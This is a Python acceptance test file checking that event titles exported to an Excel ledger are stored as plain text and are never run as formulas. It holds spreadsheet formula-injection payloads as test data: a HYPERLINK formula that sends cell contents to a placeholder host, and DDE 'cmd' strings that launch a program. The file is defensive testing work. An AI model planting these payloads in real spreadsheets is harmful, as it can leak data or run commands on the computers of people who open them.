"""What somebody writes into a record must not run when an office opens its ledger."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.acceptance.conftest import Repo

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"看这里")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def ledger(demo: Repo, title: str) -> Path:
    event = demo.new_event("--set", f"title={title}")
    ran = demo.run("ledger", "event", "-o", "out/ledger.xlsx", "--on", "2021-04-16")
    assert ran.code == 0, ran.err
    assert event
    return demo.root / "out/ledger.xlsx"


@pytest.mark.parametrize("formula", FORMULAS)
def test_have_a_formula_run_in_a_ledger(demo: Repo, formula: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    page = openpyxl.load_workbook(ledger(demo, formula))["活动"]
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    mine = [cell for cell in cells if cell.value == formula]
    assert [(cell.data_type, cell.quotePrefix) for cell in mine] == [("s", True)]


@pytest.mark.needs_program("soffice")
def test_have_a_formula_run_by_a_spreadsheet_program(demo: Repo, tmp_path: Path) -> None:
    path = ledger(demo, FORMULAS[0])
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation={tmp_path.as_uri()}/office",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", tmp_path, path],
        check=True, capture_output=True,
    )  # fmt: skip
    text = next(tmp_path.glob("*.csv")).read_text("utf-8")
    assert "HYPERLINK" in text  # the text itself, and not what it would have become
